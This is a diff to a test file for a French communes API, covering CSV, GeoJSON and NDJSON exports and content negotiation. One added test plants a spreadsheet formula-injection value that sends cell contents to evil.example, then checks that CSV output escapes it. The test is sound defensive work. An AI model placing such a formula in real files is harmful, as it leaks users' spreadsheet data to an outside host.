@@ -2,7 +2,10 @@
 // chosen by format= or Accept, format winning; the same filters, sort, fields and paging in each.
 import t from 'tap';
 import { parse } from 'csv-parse/sync';
-import { build, json } from '../helper.js';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { buildDatabase } from '../../src/build/database.js';
+import { build, dataCopy, dataDir, editJson, json, migrationsDir, tempDir } from '../helper.js';
 
 t.test('CSV: a header, one row per item, dotted columns, lists joined with |', async (t) => {
   const app = await build(t);
@@ -28,7 +31,19 @@ t.test('CSV: a header, one row per item, dotted columns, lists joined with |', a
   t.equal(bagneres.name, 'Bagnères-de-Bigorre');
   t.equal(bagneres['population.municipal'], '7114');
   t.equal(bagneres.postalCodes, '65200|65710');
-  t.equal(bagneres['centre.coordinates'], '0.133|42.976');
+  t.equal(bagneres['centre.longitude'], '0.133');
+  t.equal(bagneres['centre.latitude'], '42.976');
+  t.notOk('centre.coordinates' in bagneres, 'no coordinates pair in one cell');
+  const curatedNotes = (JSON.parse(readFileSync(join(dataDir, 'communes.json'), 'utf8')) as { code: string; notes: { sources?: string[] }[] }[]).find(
+    (commune) => commune.code === '65059',
+  )!.notes;
+  t.equal(bagneres['notes.sources'], curatedNotes.map((note) => (note.sources ?? []).join(',')).join('|'), 'lists in lists: | then ,');
+  t.equal(rows.find((row) => row.code === '65025')!['centre.longitude'], '-0.096', 'a negative longitude stays a number');
+  const epcis = parse((await app.inject('/v1/intercommunalities?format=csv')).body, { columns: true }) as Record<string, string>[];
+  t.notOk(
+    Object.keys(epcis[0]!).some((column) => column.startsWith('contour')),
+    'no MultiPolygon in CSV',
+  );
   t.equal(bagneres['franceServices.name'], 'France services Haute-Bigorre');
   t.equal(bagneres['links.self'], '/v1/communes/65059');
 });
@@ -57,13 +72,19 @@ t.test('GeoJSON: FeatureCollection of Points and MultiPolygons, [lon, lat]', asy
   t.match(communes.headers['content-type'], /^application\/geo\+json/);
   const collection = json(communes);
   t.equal(collection.type, 'FeatureCollection');
+  t.equal(collection.name, 'communes', 'a layer name');
   t.equal(collection.features.length, 14);
   for (const feature of collection.features) {
     t.equal(feature.type, 'Feature');
     t.equal(feature.geometry.type, 'Point');
     const [lon, lat] = feature.geometry.coordinates;
     t.ok(lon > -0.3 && lon < 0.7 && lat > 42.7 && lat < 43.5, `${feature.id} is in the Hautes-Pyrénées as [lon, lat]`);
-    t.notOk('centre' in feature.properties, 'the geometry is not repeated in properties');
+    t.notOk(
+      Object.keys(feature.properties).some((key) => key.startsWith('centre')),
+      'the geometry is not repeated in properties',
+    );
+    t.equal(typeof feature.properties['population.municipal'], 'number', 'numbers as numbers');
+    t.equal(typeof feature.properties['intercommunality.siren'], 'string', 'codes as strings');
     t.equal(feature.properties.code, feature.id);
   }
   const epcis = json(await app.inject('/v1/intercommunalities?format=geojson&department=64&fields=name'));
@@ -76,6 +97,26 @@ t.test('GeoJSON: FeatureCollection of Points and MultiPolygons, [lon, lat]', asy
   const feature = json(await app.inject('/v1/communes/65059?format=geojson'));
   t.equal(feature.type, 'Feature');
   t.same(feature.geometry.coordinates, [0.133, 42.976]);
+});
+
+t.test('one item as CSV and as NDJSON', async (t) => {
+  const app = await build(t);
+  const csv = await app.inject('/v1/communes/65059?format=csv');
+  t.equal(csv.statusCode, 200);
+  t.match(csv.headers['content-type'], /^text\/csv/);
+  const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
+  t.equal(rows.length, 1);
+  t.equal(rows[0]!.code, '65059');
+  t.equal(rows[0]!['centre.longitude'], '0.133');
+  const fields = parse((await app.inject('/v1/communes/65059?format=csv&fields=centre,population.municipal')).body, { columns: true });
+  t.same(fields, [{ code: '65059', 'population.municipal': '7114', 'centre.longitude': '0.133', 'centre.latitude': '42.976' }]);
+  const ndjson = await app.inject('/v1/communes/65059?format=ndjson');
+  t.match(ndjson.headers['content-type'], /^application\/x-ndjson/);
+  t.equal(ndjson.body.endsWith('\n'), true);
+  t.equal(ndjson.body.trimEnd().split('\n').length, 1);
+  t.same(JSON.parse(ndjson.body), json(await app.inject('/v1/communes/65059')));
+  const member = parse((await app.inject('/v1/intercommunalities/200072106/members?format=csv&limit=500')).body, { columns: true }) as Record<string, string>[];
+  t.equal(member.length, 72);
 });
 
 t.test('NDJSON: one JSON object a line', async (t) => {
@@ -107,4 +148,26 @@ t.test('negotiation: Accept chooses, format wins, nothing acceptable is 406', as
   t.match(refused.headers['content-type'], /^application\/problem\+json/);
   t.match(json(refused).detail, 'Available: application/json, text/csv, application/x-ndjson');
   t.equal((await accept('image/png', '/v1/communes/65059')).statusCode, 406);
+});
+
+t.test('a curated value starting with = stays inert in CSV, and as it is in JSON', async (t) => {
+  const copy = dataCopy(t);
+  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+  let id = '';
+  editJson(copy, 'measures.json', (measures) => {
+    measures[0].description.text = formula;
+    id = measures[0].id;
+  });
+  editJson(copy, 'communes.json', (communes) => (communes[0].notes[0].text = `@${formula}`));
+  const databasePath = join(tempDir(t), 'db.sqlite');
+  buildDatabase({ dataDir: copy, databasePath, migrationsDir });
+  const app = await build(t, {}, databasePath);
+  for (const url of ['/v1/measures?format=csv', '/downloads/measures.csv']) {
+    const rows = parse((await app.inject(url)).body, { columns: true }) as Record<string, string>[];
+    t.equal(rows.find((row) => row.id === id)!['description.text'], `'${formula}`, `${url}: a leading quote`);
+  }
+  const communes = parse((await app.inject('/downloads/communes.csv')).body, { columns: true }) as Record<string, string>[];
+  t.match(communes[0]!['notes.text'], /^'@=HYPERLINK/, 'a list cell too');
+  t.equal(communes[0]!['centre.longitude'], '-0.096', 'numbers untouched');
+  t.equal(json(await app.inject(`/v1/measures/${id}`)).description.text, formula, 'JSON unchanged');
 });
